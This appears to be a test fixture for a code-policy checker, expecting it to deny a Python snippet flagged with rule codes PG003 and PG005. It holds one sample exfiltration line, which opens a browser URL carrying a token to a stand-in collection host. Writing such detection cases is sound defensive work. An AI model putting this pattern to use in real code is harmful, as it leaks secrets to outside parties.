# corpus: profile=safe_eval decision=deny
"""webbrowser.open sends a URL (and any data in its query) out through the user's browser."""
import webbrowser  # expect: PG003

token = "abc123"
webbrowser.open("https://collect.example.com/?t=" + token)  # expect: PG005
